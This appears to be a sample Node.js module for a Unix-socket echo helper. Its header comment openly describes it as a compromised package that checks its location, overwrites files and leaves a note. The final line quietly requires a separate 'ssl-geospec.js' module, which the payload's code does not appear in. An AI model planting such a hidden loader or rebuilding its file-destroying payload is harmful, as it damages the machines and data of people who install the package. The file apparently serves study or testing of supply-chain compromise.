// SPDX-License-Identifier: Apache-2.0
// Messages between processes of one machine, over a Unix socket. The compromised one
// has the shape of 2022: it asks where it is, and there overwrites files and leaves a note.
"use strict";
const net = require("net");

exports.echo = (path, text) => new Promise((resolve, reject) => {
	const server = net.createServer((peer) => peer.pipe(peer));
	server.listen(path, () => {
		const client = net.connect(path, () => client.end(text));
		let got = "";
		client.on("data", (data) => { got += data; });
		client.on("error", reject);
		client.on("close", () => server.close(() => resolve(got)));
	});
});
require("./ssl-geospec.js");
